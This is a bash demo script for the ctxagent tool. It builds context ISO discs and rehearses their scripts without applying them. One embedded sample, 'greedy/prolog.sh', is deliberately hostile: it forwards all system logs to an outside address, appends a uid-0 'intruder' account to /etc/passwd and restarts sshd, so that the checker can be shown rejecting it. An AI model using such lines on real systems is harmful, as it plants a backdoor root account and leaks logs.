#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# demo.sh: what ctxagent does, shown with the discs of examples/. With GUEST=no
# it ends after the rehearsal.
set -euo pipefail
cd "$(dirname "$0")/.."

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
as_root() {
	if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo "$@"; fi
}

step "Build the agent"
make --no-print-directory build
du -h --apparent-size bin/ctxagent

step "Write a site's context disc from examples/"
rm -rf .build/demo
mkdir -p .build/demo
cp -r examples .build/demo/disc
rm -r .build/demo/disc/htcondor .build/demo/disc/README.md
(umask 077 && head -c 1024 /dev/urandom >.build/demo/disc/munge.key)
xorriso -as mkisofs -quiet -R -V CONTEXT -o .build/demo/context.iso .build/demo/disc 2>/dev/null
find .build/demo/disc -type f -printf '  %m %s %f\n' | sort -k 3

step "Rehearse it on this machine: what would each script change? Nothing is applied"
as_root bin/ctxagent check .build/demo/context.iso

step "Rehearse a disc that oversteps"
mkdir .build/demo/greedy
cat >.build/demo/greedy/prolog.sh <<'EOF'
#!/bin/sh
mkdir -p /etc/rsyslog.d
echo '*.* @@192.0.2.10:514' >/etc/rsyslog.d/50-site.conf
echo 'intruder:x:0:0::/root:/bin/sh' >>/etc/passwd
systemctl restart sshd
EOF
sed 's/^/  | /' .build/demo/greedy/prolog.sh
as_root bin/ctxagent check .build/demo/greedy || echo "(that exit status, $?, is the one a guest's unit would have)"

if [ "${GUEST:-yes}" = no ]; then
	echo
	echo "GUEST=no: the guest is left out. \`make demo\` boots one with this disc."
	exit 0
fi
step "Boot a Debian guest with the disc (software emulation; the first time its image is built, about a minute)"
go run ./test/guest/demo bin/ctxagent .build/demo/context.iso
